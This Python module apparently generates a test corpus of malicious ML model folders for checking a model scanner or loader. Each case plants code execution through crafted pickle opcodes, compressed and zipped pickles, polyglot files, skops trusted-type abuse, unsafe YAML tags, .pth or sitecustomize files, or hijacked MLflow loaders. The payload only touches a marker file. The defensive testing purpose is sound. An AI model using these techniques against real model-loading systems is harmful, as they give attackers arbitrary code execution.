"""Model folders that run code when somebody loads them, each with the loader that falls for it.

The payload is harmless: it creates one marker file. A case is a function that writes a folder; it
begins with a copy of a real, accepted model, so that nothing but the evil in it can be refused.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import marshal
import pickle
import shutil
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import joblib
import numpy
import yaml

Build = Callable[[Path, Path], None]


@dataclass(frozen=True)
class Case:
    """One attack: what it is called, how it is built, which loader runs it, in which file."""

    name: str
    build: Build
    loader: str
    file: str


# -- pickles -------------------------------------------------------------------------------------


class Call:
    """Pickles as a call of something by its name."""

    def __init__(self, name: str, *args: Any, **kwargs: Any) -> None:
        self.name, self.args, self.kwargs = name, args, kwargs


class Name:
    """Pickles as something fetched by its name."""

    def __init__(self, name: str) -> None:
        self.name = name


def text(value: str) -> bytes:
    """The opcode that pushes a string."""
    body = value.encode()
    return b"X" + struct.pack("<I", len(body)) + body


def item(value: Any) -> bytes:
    """Opcodes that push a value; a Call is made."""
    if isinstance(value, Call):
        return call(value)
    if isinstance(value, Name):
        return named(value.name)
    return pickle.dumps(value, 2)[2:-1]  # without PROTO and STOP


def named(name: str) -> bytes:
    """Opcodes that fetch `module.attribute`."""
    module, _, attribute = name.rpartition(".")
    return text(module) + text(attribute) + b"\x93"


def call(one: Call) -> bytes:
    """Opcodes of a call."""
    target, arguments = named(one.name), b"(" + b"".join(item(a) for a in one.args) + b"t"
    if not one.kwargs:
        return target + arguments + b"R"
    # A partial whose state holds the keywords; then the partial is called.
    keywords = b"}(" + b"".join(text(k) + item(v) for k, v in one.kwargs.items()) + b"u"
    partial = named("functools.partial") + b"(" + target + b"tR"
    state = b"(" + target + arguments + keywords + b"}" + b"t"
    return named("operator.call") + b"(" + partial + state + b"b" + b"tR"


def stream(*calls: Call, protocol: int = 4) -> bytes:
    """A pickle that makes calls one after the other."""
    body = b"0".join(call(one) for one in calls)
    return b"\x80" + bytes([protocol]) + body + b"."


def python(marker: Path) -> str:
    """Python code that leaves the marker."""
    return f"open({str(marker)!r}, 'w').close()"


def shell(marker: Path) -> str:
    """A shell command that leaves the marker."""
    return f"touch {marker}"


CALLS: dict[str, Callable[[Path], bytes]] = {
    "os.system": lambda m: stream(Call("os.system", shell(m))),
    "posix.system": lambda m: stream(Call("posix.system", shell(m))),
    "os.popen": lambda m: stream(Call("os.popen", shell(m))),
    "subprocess.Popen": lambda m: stream(Call("subprocess.Popen", ["touch", str(m)])),
    "subprocess.getoutput": lambda m: stream(Call("subprocess.getoutput", shell(m))),
    "builtins.exec": lambda m: stream(Call("builtins.exec", python(m))),
    "builtins.eval": lambda m: stream(Call("builtins.eval", python(m))),
    "builtins.open": lambda m: stream(Call("builtins.open", str(m), "w")),
    "os.mkdir": lambda m: stream(Call("os.mkdir", str(m))),
    "os.posix_spawn": lambda m: stream(
        Call("os.posix_spawn", "/bin/sh", ["sh", "-c", shell(m)], {"PATH": "/usr/bin:/bin"})
    ),
    "importlib and getattr": lambda m: stream(
        Call(
            "operator.call",
            Call("builtins.getattr", Call("importlib.import_module", "os"), "system"),
            shell(m),
        )
    ),
    "operator.attrgetter": lambda m: stream(
        Call(
            "operator.call",
            Call(
                "operator.call",
                Call("operator.attrgetter", "system"),
                Call("importlib.import_module", "os"),
            ),
            shell(m),
        )
    ),
    "operator.methodcaller": lambda m: stream(
        Call("operator.call", Call("operator.methodcaller", "touch"), Call("pathlib.Path", str(m)))
    ),
    "pathlib.Path.touch": lambda m: stream(
        Call("operator.call", Call("builtins.getattr", Call("pathlib.Path", str(m)), "touch"))
    ),
    "map in a list": lambda m: stream(
        Call("builtins.list", Call("builtins.map", Name("os.system"), [shell(m)]))
    ),
    "timeit.timeit": lambda m: stream(Call("timeit.timeit", python(m), "pass")),
    "cProfile.run": lambda m: stream(Call("cProfile.run", python(m))),
    "profile.run": lambda m: stream(Call("profile.run", python(m))),
    "trace.Trace": lambda m: stream(
        Call("operator.call", Call("operator.methodcaller", "run", python(m)), Call("trace.Trace"))
    ),
    "bdb": lambda m: stream(
        Call("operator.call", Call("operator.methodcaller", "run", python(m)), Call("bdb.Bdb"))
    ),
    "pydoc.pipepager": lambda m: stream(Call("pydoc.pipepager", "text", f"cat > {m}")),
    "pydoc.locate": lambda m: stream(
        Call("operator.call", Call("pydoc.locate", "os.system"), shell(m))
    ),
    "pkgutil.resolve_name": lambda m: stream(
        Call("operator.call", Call("pkgutil.resolve_name", "os:system"), shell(m))
    ),
    "code interpreter": lambda m: stream(
        Call(
            "operator.call",
            Call("operator.methodcaller", "runsource", python(m)),
            Call("code.InteractiveInterpreter"),
        )
    ),
    "runpy.run_path": lambda m: stream(Call("runpy.run_path", str(_script(m)))),
    "numpy runstring": lambda m: stream(
        Call("numpy.testing._private.utils.runstring", python(m), {})
    ),
    "distutils.spawn": lambda m: stream(Call("distutils.spawn.spawn", ["touch", str(m)])),
    "multiprocessing.spawnv_passfds": lambda m: stream(
        Call("multiprocessing.util.spawnv_passfds", b"/usr/bin/touch", ["touch", str(m)], [])
    ),
    "mlflow _exec_cmd": lambda m: stream(Call("mlflow.utils.process._exec_cmd", ["touch", str(m)])),
    "yaml.unsafe_load": lambda m: stream(Call("yaml.unsafe_load", _tagged(m))),
    "logging.config.dictConfig": lambda m: stream(
        Call(
            "logging.config.dictConfig",
            {"version": 1, "handlers": {"h": {"class": "logging.FileHandler", "filename": str(m)}}},
        )
    ),
    "cloudpickle.loads": lambda m: stream(
        Call("cloudpickle.loads", stream(Call("os.system", shell(m))))
    ),
    "pickle.loads": lambda m: stream(Call("pickle.loads", stream(Call("os.system", shell(m))))),
    "joblib.load": lambda m: stream(Call("joblib.load", str(_nested(m)))),
    "numpy.load": lambda m: stream(Call("numpy.load", str(_array(m)), None, True)),
    "shutil.copyfile": lambda m: stream(Call("shutil.copyfile", "/dev/null", str(m))),
    "marshalled code": lambda m: stream(
        Call("builtins.exec", Call("marshal.loads", marshal.dumps(compile(python(m), "x", "exec"))))
    ),
    "keywords of a partial": lambda m: stream(
        Call("subprocess.check_output", shell(m), shell=True)
    ),
    "sqlite3": lambda m: stream(Call("sqlite3.connect", str(m))),
    "logging.FileHandler": lambda m: stream(Call("logging.FileHandler", str(m))),
    "ctypes": lambda m: stream(
        Call(
            "operator.call",
            Call("builtins.getattr", Call("ctypes.CDLL", None), "system"),
            shell(m).encode(),
        )
    ),
}


def _script(marker: Path) -> Path:
    path = marker.with_name(f"{marker.name}.script")
    path.write_text(python(marker))
    return path


def _nested(marker: Path) -> Path:
    path = marker.with_name(f"{marker.name}.nested")
    path.write_bytes(stream(Call("os.system", shell(marker))))
    return path


def objects(marker: Path) -> bytes:
    """A numpy array of objects whose data is an evil pickle."""
    body = io.BytesIO()
    numpy.lib.format.write_array_header_1_0(
        body, {"descr": "|O", "fortran_order": False, "shape": (1,)}
    )
    return body.getvalue() + stream(Call("os.system", shell(marker)))


def _array(marker: Path) -> Path:
    path = marker.with_name(f"{marker.name}.npy")
    path.write_bytes(objects(marker))
    return path


def _tagged(marker: Path) -> str:
    return f"!!python/object/apply:os.system ['{shell(marker)}']"


# -- opcodes -------------------------------------------------------------------------------------

OPCODES: dict[str, Callable[[Path], bytes]] = {
    "GLOBAL in protocol 0": lambda m: b"cos\nsystem\n(S'" + shell(m).encode() + b"'\ntR.",
    "INST": lambda m: b"(S'" + shell(m).encode() + b"'\nios\nsystem\n.",
    "OBJ": lambda m: b"\x80\x02(cos\nsystem\n" + text(shell(m)) + b"o.",
    "through the memo": lambda m: (
        b"\x80\x04"
        + text("os")
        + b"\x94"
        + text("system")
        + b"\x94"
        + b"00h\x00h\x01\x93("
        + text(shell(m))
        + b"tR."
    ),
    "NEWOBJ and BUILD": lambda m: (
        b"\x80\x02clogging\nFileHandler\n)\x810" + call(Call("os.system", shell(m))) + b"."
    ),
    "a stream that breaks off": lambda m: stream(Call("os.system", shell(m)))[:-1] + b"\xff\xff",
    "a stream that ends early": lambda m: stream(Call("os.system", shell(m)))[:-1],
    "data before the call": lambda m: (
        b"\x80\x04" + item(list(range(100))) + b"0" + call(Call("os.system", shell(m))) + b"."
    ),
    "frames of the wrong length": lambda m: (
        b"\x80\x04\x95" + struct.pack("<Q", 2) + b"N0" + call(Call("os.system", shell(m))) + b"."
    ),
}


def evil(marker: Path) -> bytes:
    """The plainest evil pickle."""
    return stream(Call("os.system", shell(marker)))


# -- containers ----------------------------------------------------------------------------------


def zipped(members: dict[str, bytes], **how: Any) -> bytes:
    """A zip of *members*."""
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w", **how) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return body.getvalue()


def encrypted_flag(body: bytes) -> bytes:
    """A zip whose directory claims encryption, which lenient readers ignore."""
    at = body.rindex(b"PK\x01\x02")
    return body[: at + 8] + b"\x01\x00" + body[at + 10 :]


def joblibbed(marker: Path, compress: Any) -> bytes:
    """A joblib file, compressed."""
    body = io.BytesIO()
    joblib.dump(_Touch(marker), body, compress=compress)
    return body.getvalue()


class _Touch:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        import os

        return os.system, (shell(self.marker),)


def catboost_polyglot(marker: Path) -> bytes:
    """A whole CatBoost file that is a pickle too: its magic begins with an opcode for bytes."""
    body = (
        struct.pack("<Ii", 4, 4).ljust(68 - 8, b"\0")
        + b"0"
        + call(Call("os.system", shell(marker)))
    )
    body += b"."
    return b"CBM1" + struct.pack("<I", len(body)) + body


CONTAINERS: dict[str, tuple[Callable[[Path], bytes], str, str]] = {
    "a CatBoost file that is a pickle too": (catboost_polyglot, "pickle", "model.cb"),
    "a joblib file": (lambda m: joblibbed(m, 0), "joblib", "model.joblib"),
    "joblib with zlib": (lambda m: joblibbed(m, ("zlib", 3)), "joblib", "model.joblib"),
    "joblib with gzip": (lambda m: joblibbed(m, ("gzip", 3)), "joblib", "model.gz"),
    "joblib with bz2": (lambda m: joblibbed(m, ("bz2", 3)), "joblib", "model.bz2"),
    "joblib with lzma": (lambda m: joblibbed(m, ("lzma", 3)), "joblib", "model.lzma"),
    "joblib with xz": (lambda m: joblibbed(m, ("xz", 3)), "joblib", "model.xz"),
    "a gzipped pickle": (lambda m: gzip.compress(evil(m)), "gzip", "model.bin"),
    "a bz2 pickle": (lambda m: bz2.compress(evil(m)), "bz2", "model.bin"),
    "an xz pickle": (lambda m: lzma.compress(evil(m)), "xz", "model.bin"),
    "a zipped pickle": (lambda m: zipped({"x.pkl": evil(m)}), "zip-member", "model.zip"),
    "a zlib pickle": (lambda m: zlib.compress(evil(m)), "joblib", "model.z"),
    "an array of objects": (objects, "numpy", "weights.npy"),
    "arrays of objects": (lambda m: zipped({"a.npy": objects(m)}), "numpy", "weights.npz"),
    "a PyTorch zip": (
        lambda m: zipped({"archive/data.pkl": evil(m), "archive/version": b"3\n"}),
        "zip-member",
        "model.pt",
    ),
    "a PyTorch zip with an odd ending": (
        lambda m: zipped({"archive/data.pkl": evil(m)}),
        "zip-member",
        "model.mdl",
    ),
    "a PyTorch zip with a renamed member": (
        lambda m: zipped({"archive/config.p": evil(m)}),
        "zip-member",
        "pytorch_model.bin",
    ),
    "a zip that claims encryption": (
        lambda m: encrypted_flag(zipped({"archive/data.pkl": evil(m)})),
        "lenient-zip",
        "model.pt",
    ),
    "a zip in a zip": (
        lambda m: zipped({"inner.zip": zipped({"data.pkl": evil(m)})}),
        "zip-in-zip",
        "model.zip",
    ),
}

NAMES = (
    "model.ubj",
    "model.onnx",
    "model.lgb",
    "model.safetensors",
    "model",
    "README.md",
    "input_example.json",
    "requirements-dev.txt",
    ".hidden",
)


# -- whole folders -------------------------------------------------------------------------------


def with_file(name: str, make: Callable[[Path], bytes]) -> Build:
    """A case that puts one more file beside a good model."""

    def build(folder: Path, marker: Path) -> None:
        (folder / name).write_bytes(make(marker))

    return build


def mlmodel(folder: Path, change: Callable[[dict[str, Any]], None]) -> None:
    """Change a folder's MLmodel."""
    path = folder / "MLmodel"
    found = yaml.safe_load(path.read_text())
    change(found)
    path.write_text(yaml.safe_dump(found))


def foreign_loader(folder: Path, marker: Path) -> None:
    """MLmodel names a loader that lies beside the model."""
    (folder / "code").mkdir()
    (folder / "code" / "evil_loader.py").write_text(
        f"{python(marker)}\ndef _load_pyfunc(path):\n    return None\n"
    )

    def change(found: dict[str, Any]) -> None:
        found["flavors"]["python_function"] |= {"loader_module": "evil_loader", "code": "code"}

    mlmodel(folder, change)


def code_beside(folder: Path, marker: Path) -> None:
    """Code beside the model takes the place of a module that the good loader imports."""
    (folder / "code" / "skops").mkdir(parents=True)
    (folder / "code" / "skops" / "__init__.py").write_text(python(marker))
    mlmodel(folder, lambda found: found["flavors"]["python_function"].update(code="code"))


def model_script(folder: Path, marker: Path) -> None:
    """A model from code."""
    script = "import mlflow\nfrom mlflow.pyfunc import PythonModel\n"
    script += f"{python(marker)}\nclass M(PythonModel):\n    def predict(self, c, i): return i\n"
    script += "mlflow.models.set_model(M())\n"
    (folder / "model_code.py").write_text(script)

    def change(found: dict[str, Any]) -> None:
        found["flavors"] = {
            "python_function": {
                "loader_module": "mlflow.pyfunc.model",
                "model_code_path": "model_code.py",
                "python_model": "model_code.py",
                "python_version": "3.11.7",
                "env": {"conda": "conda.yaml", "virtualenv": "python_env.yaml"},
            }
        }

    mlmodel(folder, change)


def pickled_sklearn(folder: Path, marker: Path) -> None:
    """The sklearn flavor with a pickle."""
    (folder / "model.skops").unlink()
    (folder / "model.pkl").write_bytes(evil(marker))

    def change(found: dict[str, Any]) -> None:
        found["flavors"]["sklearn"] |= {
            "pickled_model": "model.pkl",
            "serialization_format": "cloudpickle",
        }
        found["flavors"]["python_function"]["model_path"] = "model.pkl"

    mlmodel(folder, change)


def pickle_called_skops(folder: Path, marker: Path) -> None:
    """A pickle under the name of the safe file; MLmodel says how it is really read."""
    (folder / "model.skops").write_bytes(evil(marker))

    def change(found: dict[str, Any]) -> None:
        found["flavors"]["sklearn"]["serialization_format"] = "pickle"

    mlmodel(folder, change)


def python_model(folder: Path, marker: Path) -> None:
    """A pyfunc model: a pickled Python object."""
    (folder / "python_model.pkl").write_bytes(evil(marker))

    def change(found: dict[str, Any]) -> None:
        found["flavors"] = {
            "python_function": {
                "loader_module": "mlflow.pyfunc.model",
                "python_model": "python_model.pkl",
                "cloudpickle_version": "3.1.2",
                "python_version": "3.11.7",
                "env": {"conda": "conda.yaml", "virtualenv": "python_env.yaml"},
            }
        }

    mlmodel(folder, change)


def foreign_class(folder: Path, marker: Path) -> None:
    """The xgboost flavor with a class that lies beside the model."""
    (folder / "code").mkdir()
    (folder / "code" / "evil_class.py").write_text(f"{python(marker)}\nclass Model: pass\n")
    (folder / "model.ubj").write_text("{}")

    def change(found: dict[str, Any]) -> None:
        flavor = {"data": "model.ubj", "model_class": "evil_class.Model", "xgb_version": "3.2.0"}
        found["flavors"] = {
            "xgboost": flavor | {"model_format": "ubj", "code": "code"},
            "python_function": {
                "loader_module": "mlflow.xgboost",
                "code": "code",
                "data": "model.ubj",
                "python_version": "3.11.7",
            },
        }

    mlmodel(folder, change)


def _skops_members(folder: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(folder / "model.skops") as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def skops_with(folder: Path, node: dict[str, Any], trusts: list[str]) -> None:
    """Replace a skops model by one node; its MLmodel says that its types are to be trusted."""
    schema = node | {"protocol": 2, "_skops_version": "0.16.0"}
    (folder / "model.skops").write_bytes(zipped({"schema.json": json.dumps(schema).encode()}))
    mlmodel(folder, lambda found: found["flavors"]["sklearn"].update(skops_trusted_types=trusts))


def _node(module: str, name: str, loader: str, content: Any = None, **more: Any) -> dict[str, Any]:
    found = {"__module__": module, "__class__": name, "__loader__": loader, **more}
    return found if content is None else found | {"content": content}


def _json(value: Any) -> dict[str, Any]:
    return _node("builtins", "str", "JsonNode", json.dumps(value), is_json=True)


def _tuple(*items: dict[str, Any]) -> dict[str, Any]:
    return _node("builtins", "tuple", "TupleNode", list(items))


def skops_constructor(folder: Path, marker: Path) -> None:
    """skops calls a type with arguments from the file."""
    values = [f"exec touch {marker}", -1, None, None, None, None, None, True, True]
    arguments = _tuple(*(_json(value) for value in values))
    node = _node("subprocess", "Popen", "ConstructorFromReduceNode", arguments)
    skops_with(folder, node, ["subprocess.Popen"])


def skops_handler(folder: Path, marker: Path) -> None:
    """skops calls a harmless looking type of the standard library."""
    node = _node("logging", "FileHandler", "ConstructorFromReduceNode", _tuple(_json(str(marker))))
    skops_with(folder, node, ["logging.FileHandler"])


def skops_operator(folder: Path, marker: Path) -> None:
    """skops builds an operator that is no operator: operator.call."""
    function = _node("os", "system", "FunctionNode")
    node = _node(
        "operator", "call", "OperatorFuncNode", attrs=_tuple(function, _json(shell(marker)))
    )
    skops_with(folder, node, ["os.system", "operator.call"])


def skops_list(folder: Path, marker: Path) -> None:
    """skops calls the class of a list with the list; Popen takes one."""
    node = _node("subprocess", "Popen", "ListNode", [_json("touch"), _json(str(marker))])
    skops_with(folder, node, ["subprocess.Popen"])


def skops_set(folder: Path, marker: Path) -> None:
    """The same through a set."""
    node = _node("subprocess", "Popen", "SetNode", [_json("touch"), _json(str(marker))])
    skops_with(folder, node, ["subprocess.Popen"])


def skops_behind_a_pickle(folder: Path, marker: Path) -> None:
    """One file, two readers: a pickle at the start, a good skops file behind it."""
    path = folder / "model.skops"
    path.write_bytes(evil(marker) + path.read_bytes())


def link(folder: Path, marker: Path) -> None:
    """The model is a link to a pickle elsewhere."""
    elsewhere = marker.with_name(f"{marker.name}.elsewhere")
    elsewhere.write_bytes(evil(marker))
    (folder / "model.skops").unlink()
    (folder / "model.skops").symlink_to(elsewhere)


def tagged_mlmodel(folder: Path, marker: Path) -> None:
    """MLmodel itself builds an object for a lax YAML reader."""
    path = folder / "MLmodel"
    path.write_text(path.read_text() + f"metadata: {_tagged(marker)}\n")


def tagged_environment(folder: Path, marker: Path) -> None:
    """conda.yaml builds an object for a lax YAML reader."""
    (folder / "conda.yaml").write_text(f"name: x\ndependencies: {_tagged(marker)}\n")


def pickle_in_skops(folder: Path, marker: Path) -> None:
    """A member of the skops file is an array of objects."""
    (folder / "model.skops").write_bytes(
        zipped(_skops_members(folder) | {"9.npy": objects(marker)})
    )


def path_file(folder: Path, marker: Path) -> None:
    """A .pth file runs code when the folder is added as a site."""
    (folder / "evil.pth").write_text(f"import builtins; {python(marker)}\n")


def module_file(folder: Path, marker: Path) -> None:
    """A module beside the model."""
    (folder / "sitecustomize.py").write_text(python(marker))


FOLDERS: dict[str, tuple[Build, str, str]] = {
    "a loader beside the model": (foreign_loader, "pyfunc", ""),
    "code beside the model": (code_beside, "pyfunc", ""),
    "a model from code": (model_script, "pyfunc", ""),
    "the sklearn flavor with a pickle": (pickled_sklearn, "mlflow-sklearn", ""),
    "the sklearn flavor through pyfunc": (pickled_sklearn, "pyfunc", ""),
    "a pickle called model.skops": (pickle_called_skops, "mlflow-sklearn", ""),
    "a pickled Python model": (python_model, "pyfunc", ""),
    "a class beside the model": (foreign_class, "pyfunc", ""),
    "skops that trusts itself with Popen": (skops_constructor, "mlflow-sklearn", ""),
    "skops that trusts itself with a handler": (skops_handler, "mlflow-sklearn", ""),
    "skops that trusts itself with an operator": (skops_operator, "mlflow-sklearn", ""),
    "skops that trusts itself with a list": (skops_list, "mlflow-sklearn", ""),
    "skops that trusts itself with a set": (skops_set, "mlflow-sklearn", ""),
    "a pickle before a skops file": (skops_behind_a_pickle, "pickle", "model.skops"),
    "a link to a pickle": (link, "pickle", "model.skops"),
    "a tag in MLmodel": (tagged_mlmodel, "yaml", "MLmodel"),
    "a tag in conda.yaml": (tagged_environment, "yaml", "conda.yaml"),
    "an array of objects in a skops file": (pickle_in_skops, "skops-array", "model.skops"),
    "a .pth file": (path_file, "site", ""),
    "a module beside the model": (module_file, "import", ""),
}


def cases() -> tuple[Case, ...]:
    """Return every case."""
    found = [
        Case(f"call of {n}", with_file("model.pkl", make), "pickle", "model.pkl")
        for n, make in CALLS.items()
    ]
    found += [
        Case(f"opcodes: {n}", with_file("model.pkl", make), "pickle", "model.pkl")
        for n, make in OPCODES.items()
    ]
    found += [
        Case(n, with_file(file, make), loader, file)
        for n, (make, loader, file) in CONTAINERS.items()
    ]
    found += [Case(f"a pickle called {n}", with_file(n, evil), "pickle", n) for n in NAMES]
    found += [Case(n, build, loader, file) for n, (build, loader, file) in FOLDERS.items()]
    return tuple(found)


def build(case: Case, good: Path, folder: Path, marker: Path) -> None:
    """Write a case: a copy of a good model, with the evil in it."""
    shutil.copytree(good, folder)
    case.build(folder, marker)
